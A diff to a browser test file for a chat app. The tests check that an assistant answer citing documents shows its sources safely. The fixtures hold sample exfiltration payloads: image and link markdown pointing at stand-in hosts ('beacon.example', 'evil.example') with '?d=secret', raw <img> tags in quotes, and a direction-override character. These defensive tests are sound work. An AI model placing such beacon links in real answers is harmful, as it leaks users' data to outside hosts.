@@ -1,11 +1,42 @@
 import { deepEqual, equal, match } from 'node:assert/strict';
 import { after, before, describe, test } from 'node:test';
 import type { Page } from 'playwright-core';
+import type { Citation, QuotedCitation } from '#contract/citations/citation.ts';
 import type { Break } from '#test/break.ts';
+import { requireAccessible } from '#test/browser/accessible.ts';
 import { type BrowserWorld, openBrowserWorld } from '#test/browser/browser.ts';
+import type { Tab } from '#test/browser/browser-tab.ts';
+import type { Tenant } from '#test/world/hosted.ts';
 import { hostileDocuments } from '../web/markdown-corpus.ts';
 
 const corpus = Object.values(hostileDocuments).join('\n\n---\n\n');
+
+const beacon = 'https://beacon.example/pixel.png?d=secret';
+const text = `It costs 10 euros a month [1], and 20 for teams [2][3].
+
+Read https://docs.example/prices or [the terms](https://evil.example/?d=secret) or ![](${beacon}).
+
+[Write](mailto:help@docs.example), call \`prices [1]\` or see <https://evil.example/all> and [4].
+
+[4]: https://evil.example/first
+`;
+const quoted: QuotedCitation = {
+  ...{
+    n: 1,
+    source: 'client',
+    document_id: 'prices',
+    title: 'Prices <b>',
+    heading: 'Plans',
+    support: 'quoted',
+  },
+  url: 'https://docs.example/prices',
+  quote: `<img src="${beacon}"> ![](${beacon}) It costs 10 euros. \u202egnorts`,
+};
+const citations: readonly Citation[] = [
+  quoted,
+  { ...quoted, n: 2, title: 'Teams', url: null, heading: '', quote: 'Teams pay 25 euros.', support: 'weak' },
+  { n: 3, document_id: 'old', title: 'Old prices', deleted: true },
+];
 
 let world: BrowserWorld;
 
@@ -94,6 +125,90 @@ describe('What pages refuse', () => {
     equal(await page.evaluate('document.cookie'), '');
     equal(await page.evaluate('JSON.stringify({ ...localStorage, ...sessionStorage })'), '{}');
   });
+
+  describe('An answer that was written from documents', () => {
+    let tenant: Tenant;
+    let tab: Tab;
+    let page: Page;
+    const requests: string[] = [];
+
+    before(async () => {
+      // The page's own policy would block axe.
+      tab = await world.tab({ bypassCSP: true });
+      tenant = await world.hosted.tenant();
+      page = await tab.chat(tenant);
+      world.hosted.api.provider.enqueue({ texts: [text] });
+      await page.getByRole('textbox', { name: 'Message' }).fill('What does it cost?');
+      await page.keyboard.press('Enter');
+      await page.getByRole('button', { name: 'Good answer' }).waitFor();
+      const links = ['https://docs.example/prices', 'mailto:help@docs.example'];
+      await world.hosted.api.database.query(
+        `update messages set citations = $1, links = $2 where role = 'assistant' and client_id = $3`,
+        [JSON.stringify(citations), JSON.stringify(links), tenant.client.id],
+      );
+      page.on('request', (request) => requests.push(request.url()));
+      await page.reload();
+      await page.locator('.footnotes').waitFor();
+    });
+
+    after(() => tab[Symbol.asyncDispose]());
+
+    test('shows what its marks cite, and whether the source may not say it', async () => {
+      const marks = page.locator('.answer sup a');
+      deepEqual(await marks.evaluateAll((all) => all.map((each) => [each.textContent, each.ariaLabel])), [
+        ['1', 'Source 1: Prices <b>'],
+        ['2?', 'Source 2: Teams. May not say this'],
+        ['3', 'Source 3: Old prices'],
+      ]);
+      equal(await page.locator('.answer code').first().textContent(), 'prices [1]');
+    });
+
+    test('opens a quote as text, by the keyboard too, and keeps the address of the page', async () => {
+      const address = page.url();
+      await page.getByRole('link', { name: 'Source 1: Prices <b>' }).focus();
+      await page.keyboard.press('Enter');
+      const item = page.locator('.footnotes li:focus');
+      equal(await item.locator('blockquote').textContent(), quoted.quote);
+      match((await item.textContent()) ?? '', /^Prices <b> · Plans/);
+      equal(await item.getByRole('link').getAttribute('href'), 'https://docs.example/prices');
+      equal(page.url(), address);
+      const gone = page.locator('.footnotes li').nth(2);
+      equal(await gone.textContent(), 'Old prices · This document was deleted.');
+    });
+
+    test('has links to known addresses only; others are text with their host', async () => {
+      const hrefs = await page
+        .locator('.answer .markdown > :not(.footnotes) a:not([href^="#"])')
+        .evaluateAll((all) => all.map((each) => each.getAttribute('href')));
+      deepEqual(hrefs, ['https://docs.example/prices', 'mailto:help@docs.example']);
+      const shown = (await page.locator('.answer .markdown').textContent()) ?? '';
+      match(shown, /or the terms \(evil\.example\) or/);
+      match(shown, /or see https:\/\/evil\.example\/all and \[4\]\./);
+    });
+
+    test('asks no host for anything that stands in it or in its quotes', async () => {
+      const own = new URL(page.url()).host;
+      deepEqual(
+        requests.filter((address) => new URL(address).host !== own),
+        [],
+      );
+      equal(await page.locator('.answer img').count(), 0);
+    });
+
+    test('has links to every address where the tenant chooses that', async () => {
+      await world.hosted.api.database.query(
+        'update clients set model_links = true, version = version + 1 where id = $1',
+        [tenant.client.id],
+      );
+      await page.reload();
+      await page.locator('.footnotes').waitFor();
+      equal(await page.locator('.answer a[href="https://evil.example/?d=secret"]').count(), 1);
+    });
+
+    test('is accessible', async () => {
+      await requireAccessible(page, 'an answer with sources');
+    });
+  });
 });
 
 async function requireHarmless(page: Page): Promise<void> {
@@ -121,6 +236,36 @@ export const breaks: readonly Break[] = [
     rule: 'Pages use Trusted Types',
     file: 'src/http/server/security-headers.ts',
     replace: '"require-trusted-types-for \'script\'",',
+    by: '',
+  },
+  {
+    rule: 'An address of the model alone is no link',
+    file: 'src/web/shared/markdown/sources/citations.ts',
+    replace: 'if (known === null || known.has(address)) return null;',
+    by: 'return null;',
+  },
+  {
+    rule: 'A tenant may choose that every address is a link',
+    file: 'src/web/chat/conversation/grow-answer.ts',
+    replace: 'mayLink() ? { ...sources, links: null } : sources',
+    by: 'sources',
+  },
+  {
+    rule: 'A source that may not say it is marked',
+    file: 'src/web/shared/markdown/sources/citations.ts',
+    replace: 'isWeak ? `${number}?` : number',
+    by: 'number',
+  },
+  {
+    rule: 'An answer from documents lists its quotes',
+    file: 'src/web/chat/conversation/grow-answer.ts',
+    replace: 'listQuotes(host, sources?.citations ?? []);',
+    by: '',
+  },
+  {
+    rule: 'A numbered address of the model alone is no link',
+    file: 'src/web/shared/markdown/sources/source-notes.ts',
+    replace: " || linkRule.instead?.(member(token, 'href'), [], false)",
     by: '',
   },
 ];
